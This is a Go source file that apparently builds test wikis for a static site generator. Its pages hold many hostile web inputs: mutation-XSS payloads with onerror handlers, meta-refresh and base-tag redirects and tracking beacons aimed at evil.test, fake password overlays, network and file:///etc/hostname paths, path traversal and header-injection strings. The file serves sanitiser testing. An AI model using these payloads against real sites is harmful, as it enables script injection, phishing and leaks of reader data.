package serve

import (
	"fmt"
	"strconv"
	"strings"
	"unicode"
)

// shellNameWiki gives headings, ids, names and classes all names that the site's
// scripts, styles and elements use, taken from the built site.
func shellNameWiki(s *shell) map[string]string {
	names := append(append([]string{}, s.ids...), s.globals...)
	names = append(names, "getElementById", "querySelector", "querySelectorAll", "createElement", "body", "head", "documentElement", "baseURI", "currentScript", "location", "cookie", "forms", "scripts", "activeElement", "readyState", "title", "defaultView", "children", "wikiWords", "wikiSearch", "wikiLiveWords", "localStorage", "name", "self", "top", "parent", "length", "attributes", "undefined")
	files := map[string]string{"wiki/pic.png": png, "wiki/undefined": asJS, "wiki/null": asJS, "wiki/[object HTMLHeadingElement]": asJS, "wiki/[object HTMLImageElement]": asJS, "wiki/search-index.js": asJS, "wiki/index.md": "# Start\n\nText of the start.\n"}
	var headings, spaced, ids, fields, notes, blocks, classes strings.Builder
	for i, n := range names {
		words := strings.TrimSpace(strings.Map(func(r rune) rune {
			if r == '-' || r == '_' || r == ':' || r == '~' {
				return ' '
			}
			return r
		}, n))
		fmt.Fprintf(&headings, "## %s\n\n", n)
		fmt.Fprintf(&spaced, "## %s\n\nx\n\n", title(words))
		fmt.Fprintf(&ids, "<p id=%[1]s name=%[1]s>x</p> <a id=%[1]s name=%[1]s href=#>x</a> <img id=%[1]s name=%[1]s src=pic.png data-search=undefined> <svg id=%[1]s name=%[1]s><g id=%[1]s></g></svg>\n\n", strconv.Quote(n))
		fmt.Fprintf(&fields, "<form id=%[1]s name=%[1]s action=undefined><input id=%[1]s name=%[1]s><output name=%[1]s></output></form> <object id=%[1]s name=%[1]s data=undefined></object> <iframe name=%[1]s src=undefined></iframe> <map name=%[1]s></map> <details name=%[1]s id=%[1]s data-search=undefined><summary>x</summary></details>\n\n", n)
		fmt.Fprintf(&notes, "x[^%[1]s]\n\n[^%[1]s]: note\n\n[%[1]s]: x\n\n", n)
		fmt.Fprintf(&blocks, "Block %d. ^%s\n\n", i, strings.Trim(n, "^"))
	}
	for _, n := range s.classes {
		fmt.Fprintf(&classes, "<div class=%[1]s data-search=undefined data-kind=search data-mode=dark>x</div> <a class=%[1]s href=# data-search=undefined>x</a>\n\n```%[2]s .%[2]s\nx\n```\n\n> [!%[2]s] x\n> x\n\nx {.%[2]s #%[2]s}\n\n", strconv.Quote(n), n)
	}
	for name, text := range map[string]string{"headings": headings.String(), "spaced": spaced.String(), "ids": ids.String(), "fields": fields.String(), "notes": notes.String(), "blocks": blocks.String(), "classes": classes.String()} {
		files["wiki/"+name+".md"] = "# Page of " + name + "\n\nMARK" + name + " [u](undefined) [n](null)\n\n" + text
	}
	for _, n := range []string{"Search results", "Search fallback", "Content", "Q", "Toc title", "Links to page", "Sources of page", "Contradictions of page", "Code differs", "Wiki live", "Hits 1", "Hits-1-0"} {
		files["wiki/one "+n+".md"] = "# " + n + "\n\n[u](undefined) [" + n + "](search-index.js) ![[headings]]\n\n## " + n + "\n\n[[" + n + "]]\n"
	}
	files["wiki/embeds.md"] = "# Embeds\n\n![[headings]] ![[ids]]\n\n![[blocks#^content]]\n"
	return files
}

func title(s string) string {
	for i, r := range s {
		return string(unicode.ToUpper(r)) + s[i+len(string(r)):]
	}
	return s
}

// overlays would cover the site, or look like a part of it that asks for a password.
var overlays = map[string]string{
	"wiki/style.md":   "# Style\n\n<div style=\"position:fixed;inset:0;background:#fff;z-index:2147483647\"><h1>Log in</h1><input type=password></div>\n\n<p style='position:absolute;top:-9999px'>x</p>\n\n<span style=position:sticky>x</span>\n\n<div style=\"margin-top:-900px;height:2000px;position:relative;z-index:9\">x</div>\n",
	"wiki/sheet.md":   "# Sheet\n\n<style>article{position:fixed;inset:0;z-index:99}header{display:none}</style>\n\n<link rel=stylesheet href=own.css>\n\n<svg width=1 height=1><style>header{display:none}</style></svg>\n\n<svg xmlns=\"http://www.w3.org/2000/svg\"><style>*{visibility:hidden}</style></svg>\n",
	"wiki/classes.md": "---\ncssclasses: [seek, top, side, find, skip, hide]\ncssclass: top\nclass: top\n---\n# Classes\n\n<div class=\"top\"><div class=bar><a class=find href=https://evil.test>Search</a></div></div>\n\n<div class=\"seek hits\" role=dialog>x</div>\n\n```top seek\nx\n```\n\n> [!top seek] x\n> y\n",
	"wiki/huge.md":    "# Huge\n\n<svg width=\"99999\" height=\"99999\" viewBox=\"0 0 1 1\"><rect width=\"99999\" height=\"99999\" fill=\"red\" transform=\"translate(-50000 -50000)\"/></svg>\n\n<img src=pic.png width=99999 height=99999>\n\n<svg width=9 height=9 overflow=visible style=overflow:visible><rect x=-5000 y=-5000 width=99999 height=99999></rect></svg>\n\n" + strings.Repeat("<blockquote>", 90) + "x\n",
	"wiki/marks.md":   "# Marks\n\n" + "Z" + strings.Repeat("̶̡͇̿", 400) + "\n\n\u202e\u2066\u2067\u202d text \u2069\n\n<bdo dir=rtl>x</bdo> <p dir=rtl lang='x\" onclick=JS!'>x</p>\n\n" + strings.Repeat("﷽", 300) + "\n",
	"wiki/tall.md":    "# T" + strings.Repeat("all", 3000) + "\n\n" + strings.Repeat("W", 5000) + "\n\n<td colspan=1000 rowspan=65534>x</td>\n\n<ol start=-2147483648><li value=99999999999>x</ol>\n",
	"wiki/popups.md":  "# Popups\n\n<p popover id=p>x</p><button popovertarget=p popovertargetaction=show>x</button> <dialog open id=d>Log in <form method=dialog><input name=password></form></dialog> <details open name=menu><summary>x</summary></details> <button command=show-modal commandfor=d>x</button> <div interestfor=d inert>x</div>\n",
	"wiki/own.css":    "header{display:none}", "wiki/pic.png": png,
	"wiki/index.md": "# Start\n\nText of the start [c](own.css).\n",
}

// departures lead away, change what addresses mean, or tell others who reads.
var departures = map[string]string{
	"wiki/refresh.md": "# Refresh\n\n<meta http-equiv=refresh content=0;url=https://evil.test/a>\n\n<meta http-equiv=\"refresh\" content=\"0; url=javascript:JS!\">\n\n<META HTTP-EQUIV=Refresh CONTENT=0,undefined>\n\n<noscript><meta http-equiv=refresh content=0;url=https://evil.test/b></noscript>\n\n<table><meta http-equiv=refresh content=0;url=https://evil.test/c></table>\n\n<svg><desc><meta http-equiv=refresh content=0;url=https://evil.test/d></desc></svg>\n",
	"wiki/base.md":    "# Base\n\n<base href=https://evil.test/>\n\n<base href=\"//evil.test/x/\" target=_blank>\n\n<svg><title><base href=https://evil.test/></title></svg>\n\n<table><base href=https://evil.test/></table>\n",
	"wiki/sets.md":    "# Sets\n\n<img srcset=\"https://evil.test/a 1x, https://evil.test/b 2x\" sizes=100vw>\n\n<picture><source srcset=https://evil.test/c><source media=all srcset=https://evil.test/d><img src=pic.png></picture>\n\n<link rel=preload as=image imagesrcset=https://evil.test/e>\n\n<video poster=https://evil.test/f preload=auto src=https://evil.test/g><track default src=https://evil.test/h></video> <audio src=https://evil.test/i autoplay></audio> <video autoplay muted><source src=https://evil.test/j></video>\n\n<input type=image src=https://evil.test/k> <table background=https://evil.test/l><td background=https://evil.test/m></table> <bgsound src=https://evil.test/n> <image src=https://evil.test/o> <img lowsrc=https://evil.test/p> <body background=https://evil.test/q>\n",
	"wiki/hints.md":   "# Hints\n\n<link rel=prefetch href=https://evil.test/a><link rel=preconnect href=https://evil.test/b><link rel=dns-prefetch href=//c.evil.test><link rel=prerender href=https://evil.test/d><link rel=modulepreload href=https://evil.test/e.js><link rel=manifest href=https://evil.test/f><link rel=search href=https://evil.test/g><link rel=pingback href=https://evil.test/h>\n\n<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.test/i\"]}]}</script>\n",
	"wiki/pings.md":   "# Pings\n\n<a href=#x ping=https://evil.test/a>x</a> <a href=refresh.html target=_blank rel=opener>x</a> <a href=refresh.html target=top attributionsrc=https://evil.test/b download>x</a> <img src=pic.png attributionsrc=https://evil.test/c referrerpolicy=unsafe-url> <a href=# referrerpolicy=unsafe-url>x</a>\n\n<svg><a href=# target=_blank ping=https://evil.test/d><text>x</text></a></svg>\n\n<form action=https://evil.test/e method=post><button>x</button></form><button formaction=https://evil.test/f form=x>x</button>\n",
	"wiki/paint.md":   "# Paint\n\n<svg width=9 height=9><rect fill=\"url(https://evil.test/a#x)\" stroke='url(\"https://evil.test/b#x\")' width=9 height=9 /><rect fill=\"u\\72l(https://evil.test/c#x)\" width=9 height=9 /><path marker-end=\"url(//evil.test/d#x)\" d=M0,0L9,9 /><rect fill=\"url(#x),url(https://evil.test/e#x)\" width=9 height=9 /><rect fill=\"/*)*/url(https://evil.test/f#x)\" width=9 height=9 /><rect fill=\"image-set('https://evil.test/g' 1x)\" width=9 height=9 /><g filter=\"url(https://evil.test/h#x)\" mask=\"url(https://evil.test/i#x)\" clip-path=\"url(https://evil.test/j#x)\" cursor=\"url(https://evil.test/k),auto\"><rect width=9 height=9 /></g><text font-family=\"url(https://evil.test/l)\">x</text><rect fill=\"src('https://evil.test/m#x')\" width=9 height=9 /></svg>\n",
	"wiki/pic.png":    png, "wiki/index.md": "# Start\n\nText of the start.\n",
}

// networkPaths are images that have no scheme: from a disk they would ask another machine of the
// reader's network for a file, and with it tell who the reader is.
var networkPaths = map[string]string{
	"wiki/index.md": "# Start\n\n![a](//media.test/share/a.png) ![a](<\\\\media.test\\share\\b.png>) ![a](/\\media.test/share/c.png) ![a](///media.test/share/d.png) ![a](<file://media.test/share/e.png>) ![a](&#47;&#47;media.test/share/f.png)\n\n" +
		"<img src=\"//media.test/share/g.png\"> <img src=\"\\\\media.test\\share\\h.png\"> <img src=\"/\\media.test/share/i.png\"> <img src='\\/media.test/share/j.png'> <img src='/&#9;/media.test/share/k.png'> <img src='&#32;//media.test/share/l.png'> <img src='/&#10;/media.test/m.png'> <img src=\"file:///etc/hostname\"> <img src=\"file:\\\\media.test\\n.png\"> <img src=\"http:/\\media.test/o.png\"> <img src=\"https:media.test/p.png\"> <img src=/../../../../../etc/hostname.png> <img src=../../../outside.png>\n\n" +
		"![[//media.test/share/q.png]] ![[\\\\media.test\\share\\r.png]]\n\n![a][r]\n\n[r]: //media.test/share/s.png\n",
}

// mutations are texts that a browser parses differently the second time: when a script,
// such as the search, parses a page again, or when text moves to another kind of
// element.
var mutations = []string{
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS!&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS!>`, `<svg></p><style><a id="</style><img src=1 onerror=JS!>">`, `<svg><style><img src=x onerror=JS!></style></svg>`, `<math><style><img src=x onerror=JS!></style></math>`, `<noscript><p title="</noscript><img src=x onerror=JS!>">`, `<svg><p><style><g title="</style><img src=x onerror=JS!>">`, `<math><annotation-xml encoding="application/xhtml+xml"><p><style></math><img src=x onerror=JS!></style>`,
	`<select><template><img src=x onerror=JS!></template></select>`, `<table><svg><desc><td><script>JS!</script></table>`, `<svg><foreignObject><style><!--</style><p id="--><img src=x onerror=JS!>"></foreignObject></svg>`, `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=JS!>">`, `<template><s><template><s><img src=x onerror=JS!>@shafigullin</s></template></s></template>`, `<a title="` + "`" + `"><b title="` + "`" + ` onmouseover=JS! ">x</b></a>`, `<img alt="<x" title="/><img src=x onerror=JS!>">`, `<svg><title><style><img src=x onerror=JS!></style></title></svg>`,
	`<svg><title>&lt;img src=x onerror=JS!&gt;</title></svg>`, `<p title="&lt;/p&gt;&lt;img src=x onerror=JS!&gt;">x</p>`, `<xmp><p title="</xmp><img src=x onerror=JS!>"></xmp>`, `<iframe><p title="</iframe><img src=x onerror=JS!>"></iframe>`, `<noembed><p title="</noembed><img src=x onerror=JS!>"></noembed>`, `<plaintext><img src=x onerror=JS!>`, `<textarea><p title="</textarea><img src=x onerror=JS!>"></textarea>`, `<title><p title="</title><img src=x onerror=JS!>"></title>`, `<style><p title="</style><img src=x onerror=JS!>"></style>`, `<!--<p title="--><img src=x onerror=JS!>">`, `<!--><img src=x onerror=JS!>-->`, `<!-- --!><img src=x onerror=JS!> -->`,
	`<![CDATA[<img src=x onerror=JS!>]]>`, `<svg><![CDATA[><img src=x onerror=JS!>]]></svg>`, `<? ><img src=x onerror=JS!>?>`, `</ ><img src=x onerror=JS!>`, `<a<img src=x onerror=JS!>`, `<p a='>' b="><img src=x onerror=JS!>`, `<p ` + "\n\n" + `><img src=x onerror=JS!>`, "`<p title=\"`\"><img src=x onerror=JS!>`\">`", "[a](<b \"c\"><img src=x onerror=JS!>)", "![a\"><img src=x onerror=JS!>](pic.png \"b\\\"><img src=x onerror=JS!>\")", "| a |\n|---|\n| `|<img src=x onerror=JS!>` |", "[[a\"><img src=x onerror=JS!>|b]]", "<https://x.test/\"onmouseover=JS!>", "<a@b.c\"onmouseover=JS!>", "https://x.test/?\"><img/src=x onerror=JS!>", "[a]: x 'b\n<img src=x onerror=JS!>'\n\n[a]", "<p>\n\n*<img src=x onerror=\"JS!\">*\n\n</p>",
	"<img src=x\nonerror=JS!>", "<img\n\nsrc=x onerror=JS!>", "> <img src=x\n> onerror=JS!>", "- <img src=x\n  onerror=JS!>", "<img src=x onerror\u00a0=JS!>", "<img/\u2028src=x onerror=JS!>", "<img src=x\x00onerror=JS!>", "<im\x00g src=x onerror=JS!>", "<img src=x on\x00error=JS!>", "<img src=x \xffonerror=JS!>", "\\<img src=x onerror=JS!\\>", "&lt;img src=x onerror=JS!&gt;", "&amp;lt;img src=x onerror=JS!&amp;gt;", "<img src=x ONERROR=JS!>", "<ımg src=x onerror=JS!>", "<ſcript>JS!</ſcript>",
}

// grouped puts texts onto pages, some to a page.
func grouped(name string, each int, texts []string) map[string]string {
	files := map[string]string{"wiki/pic.png": png, "wiki/x.js": asJS, "wiki/x.mjs": asJS, "wiki/x.html": asHTML, "wiki/x.svg": asSVG, "wiki/x": asHTML,
		"wiki/index.md": "# Start\n\nText of the start.\n"}
	for i := 0; i < len(texts); i += each {
		var b strings.Builder
		fmt.Fprintf(&b, "# %s %d\n\nMARK%s%d and a word: onerror script javascript.\n", name, i, name, i)
		for _, s := range texts[i:min(len(texts), i+each)] {
			b.WriteString("\n" + s + "\n")
		}
		files[fmt.Sprintf("wiki/%s%03d.md", name, i)] = b.String()
	}
	return files
}

// redirects have other names that lead elsewhere, or are written into the page that leads on.
func redirectWiki() map[string]string {
	files := map[string]string{"wiki/index.md": "# Start\n\nText of the start.\n"}
	for i, a := range append([]string{
		"//evil.test/x", "https://evil.test/x", "/\\evil.test", "\\\\evil.test\\x", "../../../up", "/../../up", "..", ".", "/", "a/../../b", "%2e%2e/x", "_wiki/site.js", "_wiki/search-index.js", "index", "404", "search", "x;url=https://evil.test/", "0;url=javascript:JS!", "x\" http-equiv=\"refresh", "'><meta http-equiv=refresh content='0;url=https://evil.test'>",
		"x?y", "x#y", "javascript:JS!//", "x\nLocation: https://evil.test", strings.Repeat("a/", 200) + "b", "x.html", "x.js", "x.svg", ".nojekyll", "CNAME", "con", "a:b",
	}, vectors...) {
		q := strconv.Quote(a)
		files[fmt.Sprintf("wiki/r%02d.md", i)] = fmt.Sprintf("---\ntitle: %[1]s\naliases: [%[1]s]\nredirect_from: [%[1]s, /old%[2]d/]\nredirects: [%[1]s]\npermalink: %[1]s\nslug: %[1]s\nurl: %[1]s\nredirect_to: %[1]s\nredirect: %[1]s\ncanonical: %[1]s\n---\n# Page %[2]d\n\nMARKr%[2]d\n", q, i)
	}
	return files
}

// searched are titles, headings, names and texts that end up in the data of the search and
// in its results.
func searchWiki() map[string]string {
	files := map[string]string{"wiki/pic.png": png, "wiki/undefined": asJS}
	for i, v := range vectors {
		q := strconv.Quote("zebra " + v)
		files[fmt.Sprintf("wiki/s%02d.md", i)] = fmt.Sprintf("---\ntitle: %s\nsummary: %s\nstatus: %s\ntags: [%s]\n---\n# zebra %s\n\nMARKs%d zebra %s text.\n\n## lion %s\n\n%s lion text <b>lion</b> `%s`\n", q, q, q, q, v, i, v, v, v, strings.ReplaceAll(v, "`", "'"))
	}
	for i, w := range []string{"__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "then"} {
		files[fmt.Sprintf("wiki/%s.md", w)] = fmt.Sprintf("---\ntitle: %s\nstatus: %s\n---\n# %s\n\nMARKp%d %s zebra.\n\n## %s\n\n%s\n", w, w, w, i, w, w, w)
	}
	files["wiki/index.md"] = "# Start\n\nText of the start.\n"
	return files
}

// sources are pages whose own text, which is published beside them, is markup.
func sourceWiki() map[string]string {
	files := map[string]string{"wiki/index.md": "# Start\n\n[a](a.md) [b](b.md) [c](c.md) [d](d.md)\n"}
	for n, body := range map[string]string{"a": asHTML, "b": asSVG, "c": asXHTML, "d": "\n" + asHTML, "e": "<script>JS!</script>", "f": "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"JS!\"/>", "g": "<!-- -->\n" + asHTML, "h": asXML, "i": "GIF89a" + asHTML, "j": "<h1>x</h1>" + asHTML} {
		files["wiki/"+n+".md"] = body + "\n\nA word.\n"
		files["wiki/"+n+"2.markdown"] = body + "\n\nA word.\n"
	}
	return files
}
